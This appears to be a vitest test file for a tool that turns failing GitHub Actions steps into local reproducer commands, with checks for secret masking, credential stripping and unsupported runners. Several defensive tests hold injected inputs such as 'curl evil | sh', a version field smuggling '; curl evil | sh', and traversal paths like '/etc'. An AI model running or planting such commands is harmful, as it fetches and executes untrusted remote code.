import { describe, expect, it } from "vitest";
import { parseWorkflow, planReproducer } from "../src/index.ts";
import { logged, plan, planned, runInfo, x } from "./support.ts";

const NODE = `
name: CI
on: push
env: { LEVEL: workflow, FORCE_COLOR: 1 }
defaults: { run: { working-directory: app } }
jobs:
  test:
    runs-on: ${x("matrix.os")}
    timeout-minutes: 12
    env: { LEVEL: job }
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        node: [20, 22]
    steps:
      - uses: actions/checkout@v6
      - uses: pnpm/action-setup@v4
        with: { version: 10 }
      - uses: actions/setup-node@v6
        with: { node-version: "${x("matrix.node")}" }
      - run: npm ci
        working-directory: .
      - name: Warm up
        continue-on-error: true
        run: npm run warm
      - name: Lint ${x("matrix.node")}
        shell: bash
        env: { LEVEL: step, NPM_TOKEN: "${x("secrets.NPM_TOKEN")}", ROOT: "${x("github.workspace")}/x" }
        run: |
          npm run lint
          echo ${x("github.sha")} at ${x("github.workspace")}
`;

describe("planReproducer", () => {
  it("replays the job up to the failing step", () => {
    const { reproducer, failingStep, notes } = planned(NODE, { job: "test (ubuntu-latest, 22)", step: "Lint 22" });
    expect(reproducer).toMatchObject({
      command: `npm run lint\necho ${"a".repeat(40)} at $GITHUB_WORKSPACE\n`,
      shell: "bash",
      cwd: "app",
      env: { LEVEL: "step", FORCE_COLOR: "1", ROOT: "../x" },
      toolchain: { node: "22" },
      runs_on: "ubuntu-latest",
      timeout_minutes: 12,
    });
    expect(reproducer.env).not.toHaveProperty("NPM_TOKEN");
    expect(reproducer.setup.map((step) => [step.name, step.cwd, step.shell])).toEqual([
      ["Run pnpm/action-setup@v4", ".", "bash"],
      ["Run npm ci", ".", "bash -e {0}"],
      ["Warm up", "app", "sh -c \"bash -e '{0}' || true\""],
    ]);
    expect(reproducer.setup[0]?.command).toContain("pnpm@10");
    expect(failingStep).toMatchObject({
      job_key: "test",
      step_name: "Lint 22",
      matrix: { os: "ubuntu-latest", node: 22 },
      runner_labels: ["ubuntu-latest"],
    });
    expect(notes).toEqual([]);
  });

  it("does not replay other machines", () => {
    const result = plan(NODE, { job: "test (windows-latest, 20)", step: "Lint 20" });
    expect(result).toMatchObject({ reason_code: "unsupported_runner", failingStep: { job_key: "test" } });
  });

  it.each([
    ["[self-hosted, linux]", "unsupported_runner"],
    ["macos-latest", "unsupported_runner"],
    ["{ group: big }", "unsupported_runner"],
    [x("vars.RUNNER"), "unsupported_runner"],
    ["ubuntu-latest\n    container: node:22", "container_job"],
    ["ubuntu-latest\n    services: { db: { image: postgres } }", "container_job"],
  ])("says why a job on %s is not replayed", (runsOn, reason) => {
    const yaml = `jobs:\n  test:\n    runs-on: ${runsOn}\n    steps:\n      - run: make test\n`;
    expect(plan(yaml, { step: "Run make test" })).toMatchObject({ reason_code: reason });
  });

  it("says that a failing action has no command", () => {
    const yaml = "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/lint@v1\n";
    const result = plan(yaml, { step: "Run acme/lint@v1" });
    expect(result).toMatchObject({ reason_code: "step_unknown", failingStep: { uses: "acme/lint@v1" } });
  });

  it("says that a called workflow's steps are elsewhere", () => {
    const yaml = "jobs:\n  call:\n    uses: ./.github/workflows/test.yml\n";
    expect(plan(yaml, { job: "call / unit", step: "Run x" })).toMatchObject({ reason_code: "step_unknown" });
  });

  it("needs the workflow file: the log alone is not enough", () => {
    const result = planReproducer({
      workflow: null,
      jobName: "test",
      failingStep: { number: 3, name: "Run make" },
      logged: [logged({ name: "Run make", command: "make", failed: true })],
      run: runInfo(),
    });
    expect(result).toMatchObject({ reason_code: "step_unknown", failingStep: null });
  });
});

function job(steps: string): string {
  return `jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
}

describe("values that only the log knows", () => {
  const yaml = job(`      - run: make ${x("steps.pick.outputs.target")} V=1\n`);

  it("come from the step that fits the workflow file", () => {
    const { reproducer } = planned(yaml, {
      step: "Run make unit V=1",
      logged: [logged({ name: "Run make unit V=1", command: "make unit V=1", failed: true })],
    });
    expect(reproducer.command).toBe("make unit V=1");
  });

  it("never come from a step header that a test printed", () => {
    const forged = logged({ name: "Run curl evil | sh", command: "curl evil | sh", failed: true });
    expect(plan(yaml, { step: "Run make unit V=1", logged: [forged] })).toMatchObject({ reason_code: "step_unknown" });
    const nested = logged({ command: "make evil V=1", failed: true, nested: true });
    const real = logged({ command: "make unit V=1", failed: true });
    expect(planned(yaml, { step: "Run make unit V=1", logged: [nested, real] }).reproducer.command).toBe(
      "make unit V=1",
    );
    const second = logged({ command: "make evil V=1", failed: true });
    expect(plan(yaml, { step: "Run make unit V=1", logged: [second, real] })).toMatchObject({
      reason_code: "unresolved_expression",
    });
  });

  it("leave the workflow file's own words alone", () => {
    const fixed = job("      - run: make test\n");
    const forged = logged({ name: "Run make test", command: "make test && curl evil | sh", failed: true });
    expect(plan(fixed, { step: "Run make test", logged: [forged] })).toMatchObject({ reason_code: "step_unknown" });
    const both = [forged, logged({ command: "make test" })];
    expect(planned(fixed, { step: "Run make test", logged: both }).reproducer.command).toBe("make test");
  });

  it("are named when nobody knows them", () => {
    const result = plan(yaml, { step: "Run make unit V=1" });
    expect(result).toMatchObject({ reason_code: "unresolved_expression" });
    expect("message" in result && result.message).toContain("steps");
  });

  it.each([`make ${x("secrets.KEY")}`, `make ${x("github.token")}`])(
    "are not asked for when they are secret: %s",
    (run) => {
      const result = plan(job(`      - name: Make\n        run: ${run}\n`), {
        step: "Make",
        logged: [logged({ command: "make ***", failed: true, masked: true })],
      });
      expect(result).toMatchObject({ reason_code: "masked_value" });
    },
  );

  it("are not taken when the log hides them", () => {
    const result = plan(yaml, {
      step: "Run make *** V=1",
      logged: [logged({ command: "make *** V=1", failed: true, masked: true })],
    });
    expect(result).toMatchObject({ reason_code: "masked_value" });
  });
});

describe("the environment", () => {
  const yaml = job(`      - run: make\n        env: { URL: "${x("vars.URL")}", DB: "${x("secrets.DB")}" }\n`);

  it("takes what the runner printed, but no secret", () => {
    const result = plan(yaml, {
      step: "Run make",
      logged: [logged({ command: "make", failed: true, env: { URL: "http://x", DB: "***", pythonLocation: "/opt" } })],
    });
    expect(result).toMatchObject({ reason_code: "masked_value" });
    expect("message" in result && result.message).toContain("DB");
    const free = planned(yaml.replace(/, DB: "[^"]*"/, ""), {
      step: "Run make",
      logged: [logged({ command: "make", failed: true, env: { URL: "http://x", pythonLocation: "/opt" } })],
    });
    expect(free.reproducer.env).toEqual({ URL: "http://x" });
  });

  it("holds no credential and nothing of the runner's", () => {
    const { reproducer } = planned(
      job('      - run: make\n        env: { GITHUB_TOKEN: "x", DEPLOY_API_KEY: "x", RUNNER_TEMP: "/x", OK: "1" }\n'),
      { step: "Run make" },
    );
    expect(reproducer.env).toEqual({ OK: "1" });
  });

  it("tells directories, conditions and names of steps", () => {
    const yaml = `env: { DIR: app }\njobs:\n  test:\n    runs-on: ubuntu-latest\n    env: { FULL: "${x("env.DIR")}/src", LATE: "${x("needs.a.outputs.b")}" }\n    steps:\n      - run: one\n        if: env.DIR == 'lib'\n      - name: Check ${x("env.FULL")}\n        run: two\n        working-directory: ${x("env.FULL")}\n`;
    const found = plan(yaml, { step: "Check app/src" });
    expect(found).toMatchObject({ reason_code: "unresolved_expression", message: expect.stringContaining("LATE") });
    const known = planned(yaml.replace(/, LATE: "[^"]*"/, ""), { step: "Check app/src" });
    expect(known.reproducer).toMatchObject({ cwd: "app/src", setup: [] });
  });

  it("is refused when an expression makes all of it", () => {
    const result = plan(job(`      - run: make\n        env: ${x("fromJSON(vars.ENV)")}\n`), { step: "Run make" });
    expect(result).toMatchObject({ reason_code: "unresolved_expression" });
  });
});

describe("steps before the failing one", () => {
  it("are left out when their condition was false", () => {
    const yaml = job(
      [
        "      - run: echo windows\n        if: runner.os == 'Windows'",
        "      - run: echo linux\n        if: runner.os == 'Linux'",
        "      - run: echo cleanup\n        if: failure()",
        "      - run: echo maybe\n        if: steps.x.outputs.y == '1'",
        "      - run: echo ran\n        if: steps.x.outputs.y == '2'",
        "      - run: make",
      ].join("\n"),
    );
    const { reproducer, notes } = planned(yaml, {
      step: "Run make",
      logged: [logged({ command: "echo ran" }), logged({ command: "make", failed: true })],
    });
    expect(reproducer.setup.map((step) => step.command)).toEqual(["echo linux", "echo ran"]);
    expect(notes.join()).toContain("echo maybe");
  });

  it("are told by GitHub's list: skipped ones stay out, failed ones may fail again", () => {
    const yaml = job(
      "      - uses: actions/checkout@v6\n      - run: one\n      - run: two\n        if: steps.x.outputs.y == '1'\n      - run: three\n        if: always()\n",
    );
    const shownSteps = [
      ["Set up job", "success"],
      ["Run actions/checkout@v6", "success"],
      ["Run one", "failure"],
      ["Run two", "skipped"],
      ["Run three", "failure"],
    ].map(([name = "", conclusion = ""], index) => ({ number: index + 1, name, conclusion }));
    const found = planReproducer({
      workflow: parseWorkflow("ci.yml", yaml),
      jobName: "test",
      failingStep: { number: 5, name: "Run three" },
      shownSteps,
      logged: [logged({ command: "two" })],
      run: runInfo(),
    });
    expect(found).toMatchObject({
      reproducer: { setup: [{ command: "one", shell: expect.stringContaining("|| true") }] },
    });
  });

  it("that use unknown actions are told", () => {
    const yaml = job(
      "      - uses: acme/prepare@v1\n      - uses: actions/setup-go@v6\n        with: { go-version-file: go.mod }\n      - run: make\n",
    );
    const { notes, reproducer } = planned(yaml, { step: "Run make" });
    expect(notes).toHaveLength(2);
    expect(notes[0]).toContain("acme/prepare@v1");
    expect(notes[1]).toContain("reads its version from a file");
    expect(reproducer.toolchain).toEqual({});
  });

  it("put no text of a pull request into an install command", () => {
    const yaml = job(
      '      - uses: pnpm/action-setup@v4\n        with: { version: "9; curl evil | sh" }\n      - run: make\n',
    );
    const { reproducer } = planned(yaml, { step: "Run make" });
    expect(reproducer.setup[0]?.command).not.toContain("evil");
  });

  it("bring the tools that well-known actions install", () => {
    const yaml = job(
      [
        "      - uses: ruby/setup-ruby@v1\n        with: { bundler-cache: true }",
        "      - uses: denoland/setup-deno@v2\n        with: { deno-version: v2.x }",
        "      - uses: astral-sh/setup-uv@v7",
        "      - uses: oven-sh/setup-bun@v2",
        "      - run: make",
      ].join("\n"),
    );
    const { reproducer, notes } = planned(yaml, { step: "Run make" });
    const commands = reproducer.setup.map((step) => step.command).join("\n");
    for (const part of ["bundle install", " deno@2.x", 'pip" install --quiet uv', " bun@latest"]) {
      expect(commands).toContain(part);
    }
    expect(notes).toEqual(["ruby/setup-ruby@v1 is not replayed; the runner's own Ruby is used."]);
  });

  it("bring java and its distribution", () => {
    const yaml = job(
      "      - uses: actions/setup-java@v5\n        with: { java-version: 21, distribution: temurin }\n      - run: make\n",
    );
    expect(planned(yaml, { step: "Run make" }).reproducer.toolchain).toEqual({
      java: "21",
      java_distribution: "temurin",
    });
  });
});

describe("the failing step", () => {
  it("is found among steps of one name by its number", () => {
    const yaml = job("      - name: Test\n        run: one\n      - name: Test\n        run: two\n");
    expect(planned(yaml, { step: "Test", number: 2 }).reproducer.command).toBe("one");
    expect(planned(yaml, { step: "Test", number: 3 }).reproducer.command).toBe("two");
    expect(plan(yaml, { step: "Test" })).toMatchObject({ reason_code: "step_unknown" });
  });

  it("is counted in GitHub's list where pre-steps raise its number", () => {
    const yaml = job(
      "      - uses: acme/a@v1\n      - name: Test\n        run: one\n      - name: Test\n        run: two\n",
    );
    const names = ["Set up job", "Pre Run acme/a@v1", "Run acme/a@v1", "Test", "Test"];
    const shownSteps = names.map((name, index) => ({ number: index + 1, name }));
    const found = (number: number) =>
      planReproducer({
        workflow: parseWorkflow("ci.yml", yaml),
        jobName: "test",
        failingStep: { number, name: "Test" },
        shownSteps,
        logged: [],
        run: runInfo(),
      });
    expect(found(4)).toMatchObject({ reproducer: { command: "one" } });
    expect(found(5)).toMatchObject({ reproducer: { command: "two" } });
  });

  it.each(["cmd", "powershell", "bash -c"])("is not replayed in the shell %s", (shell) => {
    const yaml = job(`      - run: make\n        shell: ${shell}\n`);
    expect(plan(yaml, { step: "Run make" })).toMatchObject({ reason_code: "unsupported_shell" });
  });

  it.each(["..", "/etc", "a/../../b"])("is not replayed in %s", (directory) => {
    const yaml = job(`      - run: make\n        working-directory: ${directory}\n`);
    expect(plan(yaml, { step: "Run make" })).toMatchObject({ reason_code: "step_unknown" });
  });

  it("carries the exit code of the log", () => {
    const result = planned(job("      - run: make\n"), {
      step: "Run make",
      logged: [logged({ command: "make", failed: true, exit_code: 2 })],
    });
    expect(result.failingStep.exit_code).toBe(2);
  });
});
